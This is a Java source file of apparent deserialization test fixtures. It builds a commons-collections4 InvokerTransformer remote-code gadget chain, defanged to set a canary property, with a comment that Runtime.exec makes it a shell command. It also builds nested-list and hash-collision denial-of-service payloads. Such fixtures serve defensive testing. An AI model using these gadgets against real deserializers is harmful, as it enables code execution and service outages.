package dev.airlock.security.hostile;

import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.TreeMap;
import org.apache.commons.collections4.Transformer;
import org.apache.commons.collections4.comparators.TransformingComparator;
import org.apache.commons.collections4.functors.ChainedTransformer;
import org.apache.commons.collections4.functors.ConstantTransformer;
import org.apache.commons.collections4.functors.InvokerTransformer;

/** Result objects built to make the host run or loop, built in the hostile worker only. */
public final class Gadgets {
  /** The system property the commons-collections4 chain sets in every JVM that decodes it. */
  public static final String CC4_RAN = "airlock.canary.org.apache.commons.collections4.functors.InvokerTransformer";

  private Gadgets() {
  }

  /**
   * The review's remote-code chain, made harmless only in what it calls: any key's class leads to
   * {@code Class.forName("java.lang.System").getMethod("setProperty", ...).invoke(null, CC4_RAN, "ran")}. A
   * shell command is the same chain with {@code Runtime.exec}. Every class value in it is a JDK class or
   * {@code Class[]}, so only the commons-collections4 package decides whether the host reads it.
   */
  public static TreeMap<Object, Object> transformingComparatorTreeMap() {
    Transformer<Object, Object> chain = new ChainedTransformer<>(
        new InvokerTransformer<>("getClass", new Class<?>[0], new Object[0]),
        new InvokerTransformer<>("forName", new Class<?>[] {String.class}, new Object[] {"java.lang.System"}),
        new InvokerTransformer<>("getMethod", new Class<?>[] {String.class, Class[].class},
            new Object[] {"setProperty", new Class<?>[] {String.class, String.class}}),
        new InvokerTransformer<>("invoke", new Class<?>[] {Object.class, Object[].class},
            new Object[] {null, new Object[] {CC4_RAN, "ran"}}),
        new ConstantTransformer<>(1));
    TreeMap<Object, Object> map = new TreeMap<>(new TransformingComparator<>(chain));
    map.put("key", "value");
    return map;
  }

  /**
   * A set holding lists nested {@code depth} deep, each level holding its child twice: as a graph with references
   * it is a few hundred bytes, as a tree it has 2^depth leaves. Its one element is filled after it was hashed.
   */
  public static Set<Object> sharedNestedListsInHashSet(int depth) {
    List<Object> top = new ArrayList<>();
    Set<Object> set = new HashSet<>();
    set.add(top);
    List<Object> child = new ArrayList<>(List.of(1));
    for (int i = 0; i < depth - 1; i++) {
      child = new ArrayList<>(List.of(child, child));
    }
    top.add(child);
    top.add(child);
    return set;
  }

  /**
   * {@code count} distinct lists {@code [i, -31 i]}, every one with hash code 961: a hash table compares each new
   * one with all before it. Each is hashed while it is still {@code [i]}, so building the set here is linear.
   */
  public static Set<Object> collidingHashLists(int count) {
    Set<Object> set = new HashSet<>();
    List<List<Object>> lists = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      List<Object> list = new ArrayList<>(List.of(i));
      set.add(list);
      lists.add(list);
    }
    for (int i = 0; i < count; i++) {
      lists.get(i).add(-31 * i);
    }
    return set;
  }

}
